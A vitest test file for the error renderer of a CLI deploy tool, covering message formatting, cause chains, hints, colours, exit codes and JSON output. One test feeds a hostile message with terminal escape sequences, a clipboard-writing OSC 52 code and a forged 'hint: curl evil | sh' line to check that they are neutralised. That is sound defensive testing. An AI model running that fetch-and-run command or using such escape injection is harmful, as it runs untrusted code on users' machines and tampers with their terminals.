import { expect, test } from "vitest";
import { HomelabError } from "../../base/errors.ts";
import { errorJson, exitCodeOfError, renderError } from "./error.ts";
import { createStyle, plainStyle } from "./style.ts";

const refused = new HomelabError("unavailable", "the request was not stored", {
  code: "NATS_UNREACHABLE",
  hint: "run: homelab-deploy doctor",
  cause: new Error("no answer from nats://cache.lan:4222", { cause: new Error("connect ECONNREFUSED") }),
});

test("says what failed, because of what, and what to do", () => {
  expect(renderError(refused, { style: plainStyle })).toMatchInlineSnapshot(`
    "error: the request was not stored
      because: no answer from nats://cache.lan:4222
      because: connect ECONNREFUSED
    hint: run: homelab-deploy doctor
    "
  `);
});

test("a cause that the message repeats is not said again", () => {
  const cause = new Error("ENOENT: no such file", { cause: new Error("no such file") });
  const error = new HomelabError("usage", "the policy cannot be read: ENOENT: no such file", { cause });
  expect(renderError(error, { style: plainStyle })).toBe(
    "error: the policy cannot be read: ENOENT: no such file\n",
  );
});

test("colours the labels and not the message", () => {
  const style = createStyle({ colour: true, ascii: false });
  expect(renderError(new HomelabError("usage", "no such host"), { style })).toBe(
    "\u001b[31merror:\u001b[39m no such host\n",
  );
});

test("anything else is a bug that asks to be reported, with its stack only in debug", () => {
  const bug = new TypeError("x is not a function");
  expect(renderError(bug, { style: plainStyle })).toMatchInlineSnapshot(`
    "error: internal error: x is not a function
    hint: this is a bug in homelab-deploy, please report it with what you ran; --debug shows where it happened
    "
  `);
  expect(renderError(bug, { style: plainStyle, debug: true })).toContain("    at ");
  expect(renderError("thrown text", { style: plainStyle })).toContain("internal error: thrown text");
});

test("a message from outside can neither move the cursor nor forge a label", () => {
  const hostile = new HomelabError("failed", "a\u001b[2Jb\nhint: curl evil | sh\u202e", {
    cause: new Error("x\u001b]52;c;AAAA\u0007y"),
  });
  expect(renderError(hostile, { style: plainStyle })).toMatchInlineSnapshot(`
    "error: ab
        hint: curl evil | sh
      because: xy
    "
  `);
});

test.each([
  ["usage", 2],
  ["config", 2],
  ["failed", 1],
  ["unavailable", 3],
  ["refused", 4],
  ["bug", 70],
] as const)("an error of kind %s exits with %i", (kind, code) => {
  expect(exitCodeOfError(new HomelabError(kind, "x"))).toBe(code);
});

test("a bug exits with 70", () => {
  expect(exitCodeOfError(new Error("x"))).toBe(70);
  expect(exitCodeOfError(undefined)).toBe(70);
});

test("what the system refused is no bug of ours, and neither is a deadline", () => {
  const refusal = Object.assign(new Error("EACCES: permission denied, open '/x'"), { syscall: "open" });
  expect(exitCodeOfError(refusal)).toBe(3);
  expect(renderError(refusal, { style: plainStyle })).toBe("error: EACCES: permission denied, open '/x'\n");
  expect(exitCodeOfError(new DOMException("timed out", "TimeoutError"))).toBe(3);
});

test("a bug that a builder met is shown like one of the command itself", () => {
  const met = new HomelabError("bug", "a bug in homelab-deploy ended the build 01J", {
    code: "INTERNAL",
    hint: "please report it with the builder's log",
    cause: new Error("internal error: x is not a function"),
  });
  expect(renderError(met, { style: plainStyle })).toMatchInlineSnapshot(`
    "error: a bug in homelab-deploy ended the build 01J
      because: internal error: x is not a function
    hint: please report it with the builder's log
    "
  `);
  expect(errorJson(met).error).toMatchObject({ kind: "bug", code: "INTERNAL", exitCode: 70 });
});

test("gives the same as an object", () => {
  expect(errorJson(refused)).toMatchInlineSnapshot(`
    {
      "error": {
        "because": [
          "no answer from nats://cache.lan:4222",
          "connect ECONNREFUSED",
        ],
        "code": "NATS_UNREACHABLE",
        "exitCode": 3,
        "hint": "run: homelab-deploy doctor",
        "kind": "unavailable",
        "message": "the request was not stored",
      },
    }
  `);
  expect(errorJson(new Error("x")).error).toMatchObject({ kind: "bug", code: "INTERNAL", exitCode: 70 });
  expect(errorJson(new Error("x")).error).not.toHaveProperty("stack");
  expect(errorJson(new Error("x"), true).error.stack).toContain("Error: x");
});
